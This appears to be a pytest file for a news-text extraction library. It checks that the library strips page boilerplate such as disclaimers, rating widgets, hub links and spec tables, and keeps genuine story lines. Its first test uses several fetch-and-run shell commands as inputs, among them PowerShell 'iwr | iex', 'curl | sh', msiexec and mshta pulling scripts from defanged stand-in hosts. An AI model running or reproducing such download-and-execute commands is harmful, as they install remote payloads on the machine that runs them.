"""The twenty-first pass over the strict xfails, as kinds: a shell's command line between a story's paragraphs,
a fact box's "What is X?" heading over its answer, a site's disclaimer of its parent company's position under
the story, a review's spec table and a box score set as a page's table, a wire's closing link to its beat's
hub, a section's kicker of beats joined in sentence case, a quote widget's rating in a word, and a writer's
names over the newsroom's staff job in lower case. Each beside near misses that stay as they were."""

from __future__ import annotations

import pytest

import nutgraf
from nutgraf.extract.text import clean_text

STORY = (
    "A new malware campaign uses fake CAPTCHA pages to trick Windows users into running a command that installs"
    " an information-stealing program, researchers warned on Tuesday.\n\n"
    "The pages pose as a Cloudflare check and tell visitors to press Windows+R, paste a command and press"
    " Enter.\n\n"
    "The researchers said the campaign had targeted thousands of hotels since early November."
)
FIRST, SECOND, LAST = STORY.split("\n\n")
HEADLINE = "Fake CAPTCHA Pages Trick Windows Users Into Installing Malware"


def between(line: str) -> str:
    """The story's text with ``line`` between its first two paragraphs, under the headline."""
    return f"{HEADLINE}\n\n{FIRST}\n\n{line}\n\n{SECOND}\n\n{LAST}"


def page(body: str, title: str = HEADLINE) -> str:
    """A page of a story: its headline, its byline and ``body``'s markup."""
    return (
        f"<!DOCTYPE html><html lang='en'><head><title>{title}</title></head><body><article>"
        f"<h1>{title}</h1><p class='byline'>By Jane Doe</p>{body}</article></body></html>"
    )


def paragraphs(*texts: str) -> str:
    return "".join(f"<p>{text}</p>" for text in texts)


# 1. A shell's command line between the paragraphs (BleepingComputer's).


@pytest.mark.parametrize(
    "command",
    [
        'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"',
        "curl -fsSL hxxps://get-update[.]sh | sh",
        "cmd /c start msiexec /q /i hxxp://update-check[.]ru/a.msi",
        "sudo curl -o /tmp/a.sh hxxps://cdn-verify[.]com/a.sh",
        "git clone https://github.com/example/exploit-poc",
        "mshta.exe hxxps://files-cdn[.]top/verify.hta",
    ],
)
def test_a_command_line_between_the_paragraphs_leaves_the_text(command: str) -> None:
    assert clean_text(between(command)).text == STORY


@pytest.mark.parametrize(
    "line",
    [
        # Prose opening on a program's name: no switch after it, a capital, or a sentence's stop.
        "sudo is the command the attackers typed to gain control, the researchers said.",
        "curl up with a book this winter, the library's campaign urges readers across the city",
        "git -- the British slang word -- was his nickname at school, his brother said.",
        "PowerShell -w h is the switch that hides the window, Microsoft said.",
        "Powershell then downloads a script from a domain controlled by the attackers.",
        "pip install is the first step, the guide says.",
        # A program's own word after it: a project's release post shows its reader the line.
        "npm install tidepool@3.2",
        "sudo apt-get install openssh-server",
    ],
)
def test_prose_opening_on_a_program_s_name_stays(line: str) -> None:
    assert line in clean_text(between(line)).text


# 2. A fact box's question heading over its answer (Verywell Health's "What is RSV?").

RSV = (
    "Cases of respiratory syncytial virus are climbing earlier than usual this winter, according to the Centers"
    " for Disease Control and Prevention.",
    "The CDC recommends a single dose of RSV vaccine for all adults aged 75 and older, the agency said on"
    " Tuesday.",
)
RSV_HEADLINE = "RSV Cases Are Rising Earlier This Year. Here's Who Should Get the Shot"


@pytest.mark.parametrize(
    ("heading", "answer"),
    [
        (
            "What is RSV?",
            "RSV is a common virus that usually causes mild, cold-like symptoms in most adults.",
        ),
        ("What are GLP-1 drugs?", "GLP-1 drugs are medicines that mimic a gut hormone and reduce appetite."),
        (
            "What is bird flu?",
            "Bird flu is an infection caused by influenza viruses that spread among birds.",
        ),
        (
            "¿Qué es la apnea del sueño?",
            "La apnea del sueño es un trastorno en el que la respiración se detiene.",
        ),
        ("Qu'est-ce que le RSV ?", "Le RSV est un virus respiratoire très courant chez les jeunes enfants."),
    ],
)
def test_a_question_heading_over_the_term_s_answer_leaves_the_text(heading: str, answer: str) -> None:
    text = clean_text(f"{RSV_HEADLINE}\n\n{RSV[0]}\n\n{heading}\n\n{answer}\n\n{RSV[1]}").text
    assert text == f"{RSV[0]}\n\n{answer}\n\n{RSV[1]}"
    html = page(f"{paragraphs(RSV[0])}<div class='callout'><h3>{heading}</h3>{paragraphs(answer)}</div>"
                f"{paragraphs(RSV[1])}", RSV_HEADLINE)  # fmt: skip
    assert nutgraf.extract(html).text == f"{RSV[0]}\n\n{answer}\n\n{RSV[1]}"


@pytest.mark.parametrize(
    ("heading", "below"),
    [
        # A cross-head answered in the story's words, not by the term.
        ("What is next?", "The council votes on the plan on Tuesday, and the mayor is expected to sign it."),
        ("What is the plan?", "The council wants to build 2,000 homes on the site by 2030, officials said."),
        ("What is RSV?", "Doctors say the virus is common and usually causes mild, cold-like symptoms."),
        ("What is driving the rise?", "Doctors say fewer people got the vaccine this year than last."),
        # Another question, and a speaker's quoted.
        ("Who is Helen Boucher?", "Helen Boucher is an infectious disease specialist at Tufts Medicine."),
        ('"What is RSV?"', "RSV is what the mother asked about, the nurse said."),
    ],
)
def test_a_cross_head_s_question_stays(heading: str, below: str) -> None:
    text = clean_text(f"{RSV_HEADLINE}\n\n{RSV[0]}\n\n{heading}\n\n{below}\n\n{RSV[1]}").text
    assert f"{heading}\n\n{below}" in text
    html = page(f"{paragraphs(RSV[0])}<h3>{heading}</h3>{paragraphs(below, RSV[1])}", RSV_HEADLINE)
    assert f"{heading}\n\n{below}" in nutgraf.extract(html).text


# 3. A site's disclaimer of its parent company's position under the story (weather.com's).

WEATHER = (
    "A winter storm will bring heavy snow to Denver and the Front Range of Colorado from Wednesday night into"
    " Friday.\n\n"
    "The National Weather Service has issued a winter storm warning for Denver, Boulder and Fort Collins.\n\n"
    "Denver itself could see 8 to 12 inches, the most from a single storm since March."
)
WEATHER_HEADLINE = "Winter Storm To Bury Denver, Front Range In Up To 18 Inches Of Snow"


@pytest.mark.parametrize(
    "note",
    [
        "The Weather Company's primary journalistic mission is to report on breaking weather news, the"
        " environment and the importance of science to our lives. This story does not necessarily represent the"
        " position of our parent company, IBM.",
        "This story does not necessarily represent the position of our parent company, IBM.",
        "This article does not necessarily reflect the views of its publisher.",
    ],
)
def test_a_site_s_disclaimer_of_its_owner_under_the_story_leaves_the_text(note: str) -> None:
    assert clean_text(f"{WEATHER_HEADLINE}\n\n{WEATHER}\n\n{note}").text == WEATHER


@pytest.mark.parametrize(
    "line",
    [
        # Whose it is: a speaker, another body's views, or news going on past it.
        "This story does not necessarily represent the position of our parent company, the editor said.",
        "The report does not necessarily reflect the views of the ministry, which commissioned it.",
        "This column does not necessarily represent the views of its owners, who bought the paper in 2019 and"
        " have since cut its staff by half.",
        "IBM, the parent company of The Weather Company, sold the unit to Francisco Partners in 2024.",
    ],
)
def test_news_of_a_parent_company_s_position_stays(line: str) -> None:
    assert clean_text(f"{WEATHER_HEADLINE}\n\n{WEATHER}\n\n{line}").text.endswith(line)


# 4. A review's spec table and a box score as a page's table; a wire's closing link to its hub.

REVIEW = (
    "The Pixel 11 is the best camera phone Google has made, and the first whose AI features save time.",
    "Battery life is only average. In our video test the phone lasted 19 hours, two fewer than the iPhone 17.",
)
REVIEW_HEADLINE = "Google Pixel 11 review: the best camera phone gets a brain"


def test_a_review_s_spec_table_leaves_a_page_s_text() -> None:
    table = (
        "<table><caption>Google Pixel 11 specs</caption><tr><td>Display:</td><td>6.3in OLED, 120Hz</td></tr>"
        "<tr><td>Chipset:</td><td>Google Tensor G6</td></tr><tr><td>Battery:</td><td>4,970mAh</td></tr></table>"
    )
    html = page(f"{paragraphs(REVIEW[0])}{table}{paragraphs(REVIEW[1])}", REVIEW_HEADLINE)
    assert nutgraf.extract(html).text == "\n\n".join(REVIEW)


def test_a_story_s_own_table_stays_in_a_page_s_text() -> None:
    # A table of the story's figures: its labelled rows are no spec's, its rows wider than a label's and value's.
    table = (
        "<table><tr><th>District</th><th>Homes</th><th>Change</th></tr>"
        "<tr><td>Northside</td><td>1,240</td><td>+12%</td></tr>"
        "<tr><td>Population:</td><td>48,000</td></tr></table>"
    )
    text = nutgraf.extract(
        page(f"{paragraphs(REVIEW[0])}{table}{paragraphs(REVIEW[1])}", REVIEW_HEADLINE)
    ).text
    assert "| Northside | 1,240 | +12% |" in text and "Population:" in text


BOX_SCORE = (
    "OKLAHOMA CITY (AP) — Shai Gilgeous-Alexander scored 38 points and the Thunder beat the Denver Nuggets"
    " 121-109 on Sunday night.",
    "Nikola Jokic had 31 points, 14 rebounds and nine assists for Denver, which has lost three of four.",
)


def test_a_box_score_table_and_the_wire_s_hub_link_leave_a_page_s_text() -> None:
    table = (
        "<table><tr><th>DENVER (109)</th><th>FG</th><th>FT</th><th>PTS</th></tr>"
        "<tr><td>Jokic</td><td>12-21</td><td>5-6</td><td>31</td></tr>"
        "<tr><td>Murray</td><td>6-17</td><td>3-3</td><td>17</td></tr></table>"
    )
    html = page(
        f"{paragraphs(*BOX_SCORE)}{table}<p>AP NBA: https://apnews.com/hub/NBA</p>", "Thunder beat Nuggets"
    )
    assert nutgraf.extract(html).text == "\n\n".join(BOX_SCORE)


@pytest.mark.parametrize(
    "line",
    [
        # An address in a sentence, or a label over more than a bare address.
        "Applications open at https://riverton.gov/grants until Friday.",
        "More information: https://riverton.gov/grants and at the town hall",
        "Tickets for the match go on sale on Monday at https://tickets.example.com.",
    ],
)
def test_a_story_s_last_line_with_an_address_stays(line: str) -> None:
    assert nutgraf.extract(page(paragraphs(*BOX_SCORE, line), "Thunder beat Nuggets")).text.endswith(line)


# 5. A section's kicker of beats joined, in sentence case, over the headline (El País's "Salud y bienestar").

SALUD = (
    "Un fármaco contra la obesidad reduce a la mitad las pausas respiratorias de las personas con apnea del"
    " sueño, según un ensayo con 900 pacientes publicado este miércoles.\n\n"
    "Los resultados aparecen en la revista The New England Journal of Medicine."
)
TITULAR = "Un fármaco contra la obesidad reduce a la mitad las pausas de la apnea del sueño"
DECK = "Un ensayo con 900 pacientes muestra que la tirzepatida mejora la respiración nocturna."


@pytest.mark.parametrize("kicker", ["Salud y bienestar", "Science & Environment", "Arts & culture"])
def test_a_kicker_of_beats_joined_over_the_headline_is_no_title(kicker: str) -> None:
    cleaned = clean_text(f"{kicker}\n\n{TITULAR}\n\n{DECK}\n\nNuño Domínguez\n\n{SALUD}")
    assert cleaned.title == TITULAR
    assert kicker not in cleaned.text


@pytest.mark.parametrize(
    "headline",
    [
        # A headline joining two words names more than beats, or joins none.
        "Health and wealth",
        "Climate and the city",
        "Salud para todos",
        "Tech giants and regulators",
    ],
)
def test_a_short_headline_joining_words_over_its_deck_stays_the_title(headline: str) -> None:
    assert clean_text(f"{headline}\n\n{DECK}\n\n{SALUD}").title == headline


# 6. A quote widget's rating in a word (Benzinga's "Overview Rating: Good").


@pytest.mark.parametrize(
    "line",
    ["Overview Rating: Good", "Consensus Rating: Strong Buy", "Analyst Rating: Hold", "Rating: Speculative"],
)
def test_a_rating_in_a_word_under_its_label_leaves_the_text(line: str) -> None:
    assert clean_text(between(line)).text == STORY


@pytest.mark.parametrize(
    "line",
    [
        "Rating: Good news for savers as the central bank holds rates",
        "Rating: Good, the agency said, after a year of cuts.",
        "Moody's rating: the agency cut the city's bonds to junk on Friday",
        "Overview: Good",
    ],
)
def test_a_rating_s_label_over_words_stays(line: str) -> None:
    assert line in clean_text(between(line)).text


# 7. A writer's names over the newsroom's staff job in lower case (Nikkei Asia's).

NIKKEI = (
    "TOKYO -- Toyota Motor raised its full-year operating profit forecast on Thursday to 4.7 trillion yen, as"
    " strong sales of hybrid cars offset the cost of U.S. tariffs.\n\n"
    "The world's largest carmaker had previously forecast an operating profit of 4.2 trillion yen."
)
NIKKEI_HEADLINE = "Toyota lifts profit forecast as hybrid sales outrun tariff costs"
NIKKEI_DECK = "Carmaker's operating profit target rises to 4.7tn yen for fiscal year"


@pytest.mark.parametrize(
    ("line", "byline"),
    [
        ("KOSUKE TAKAHASHI, Nikkei staff writer", "KOSUKE TAKAHASHI"),
        ("Mia Tanaka, Nikkei staff writer", "Mia Tanaka"),
        ("Jane Doe, Tribune staff reporter", "Jane Doe"),
    ],
)
def test_names_over_a_newsroom_s_staff_job_are_the_byline(line: str, byline: str) -> None:
    cleaned = clean_text(
        f"Automobiles\n\n{NIKKEI_HEADLINE}\n\n{NIKKEI_DECK}\n\n{line}\n\nNovember 5, 2026 17:10 JST\n\n{NIKKEI}"
    )
    assert (cleaned.title, cleaned.byline, cleaned.text) == (NIKKEI_HEADLINE, byline, NIKKEI)


@pytest.mark.parametrize(
    "line",
    [
        # An apposition's job outside a newsroom, or in lower case from its first word.
        "Joe Biden, US president",
        "Jane Doe, a staff writer",
        "Kosuke Takahashi, Toyota chief engineer",
    ],
)
def test_names_over_another_job_are_no_staff_byline(line: str) -> None:
    assert clean_text(f"{NIKKEI_HEADLINE}\n\n{line}\n\n{NIKKEI}").byline is None


# Review: lines of the same shapes that a reader came for.

HOWTO = (
    "To install the tool, open a terminal and run the following command.",
    "The installer then asks which version of Python to use, and the tool is free.",
)


@pytest.mark.parametrize(
    "command",
    [
        # A how-to's or a release note's command, its address a real one: the reader's to run.
        "curl -sSL https://install.python-poetry.org | python3 -",
        "sudo apt-get -y install ffmpeg",
        "apt -y install nginx",
        "cmd /c dir",
    ],
)
def test_a_how_to_s_command_line_stays(command: str) -> None:
    text = f"How to install nutgraf\n\n{HOWTO[0]}\n\n{command}\n\n{HOWTO[1]}"
    assert command in clean_text(text).text
    assert (
        command
        in nutgraf.extract(page(paragraphs(HOWTO[0], command, HOWTO[1]), "How to install nutgraf")).text
    )


@pytest.mark.parametrize(
    ("headline", "answer"),
    [
        (
            "What is Bluesky?",
            "Bluesky is a social network that grew out of a project at Twitter, and it has 30 million users.",
        ),
        (
            "What is the Insurrection Act?",
            "The Insurrection Act is an 1807 law that lets a president deploy troops at home.",
        ),
    ],
)
def test_an_explainer_s_question_headline_over_its_answer_stays(headline: str, answer: str) -> None:
    body = f"{answer}\n\nIts founders say no one company should own it, officials said on Monday."
    assert clean_text(f"{headline}\n\n{body}").text.startswith(f"{headline}\n\n{answer}")


@pytest.mark.parametrize(
    "line",
    [
        # A label of what the reader came for over its address, no wire's hub.
        "Full report: https://www.cdc.gov/mmwr/volumes/73/wr/mm7301a1.htm",
        "Read the ruling: https://www.supremecourt.gov/opinions/24pdf/23-719.pdf",
        "Study: https://doi.org/10.1056/NEJMoa2401234",
        "Petition: https://petition.parliament.uk/petitions/700000",
    ],
)
def test_a_page_s_last_labelled_address_stays(line: str) -> None:
    assert nutgraf.extract(page(paragraphs(*BOX_SCORE, line), "Thunder beat Nuggets")).text.endswith(line)


@pytest.mark.parametrize("headline", ["Science and technology", "Money and Sport", "Sport and politics"])
def test_a_short_headline_of_beats_joined_by_and_over_its_deck_stays_the_title(headline: str) -> None:
    body = (
        "The two worlds have never been far apart, and this year they met again in a row over a stadium.\n\n"
        "The club's owners said on Monday that they would appeal the council's decision."
    )
    assert (
        clean_text(f"{headline}\n\nWhy the two have never been far apart in Britain\n\n{body}").title
        == headline
    )


# Long hostile lines of each kind end as any line does (linear work, no pattern that backtracks).


@pytest.mark.parametrize(
    "line",
    [
        "powershell -w " + "h " * 10_000,
        "curl -" + "-" * 10_000 + "x",
        "What is " + "RSV " * 10_000 + "?",
        "This story does not necessarily " * 10_000,
        "| " + "Display: | " * 10_000 + "|",
        "AP NBA: https://" + "x" * 10_000,
        "Salud y " * 10_000 + "bienestar",
        "Overview Rating: " + "Good " * 10_000,
        "KOSUKE TAKAHASHI, " + "Nikkei staff " * 10_000 + "writer",
    ],
)
def test_long_lines_of_these_kinds_are_read_once(line: str) -> None:
    assert clean_text(f"{line}\n\n{STORY}").text.endswith(LAST)
    assert nutgraf.extract(page(paragraphs(FIRST, line, LAST))).text.endswith(LAST)


def test_a_pasted_table_under_the_lede_keeps_the_lede() -> None:
    # The table's rows had parted the prose, and the lede above them had gone as a stray line.
    lede = (
        "Arsenal moved top of the Premier League on Sunday after beating Chelsea 2-1 at Stamford Bridge, with"
        " Bukayo Saka scoring the winner."
    )
    rest = (
        "Liverpool can go back above Arsenal if they beat Everton on Monday night, the league said.\n\n"
        "The two sides meet at the Emirates on March 3."
    )
    table = "| Team | Points |\n|---|---|\n| Arsenal | 45 |\n| Liverpool | 44 |"
    cleaned = clean_text(f"Arsenal go top after win at Chelsea\n\n{lede}\n\n{table}\n\n{rest}")
    assert cleaned.text.startswith(f"{lede}\n\n")
    assert cleaned.text.endswith(rest)
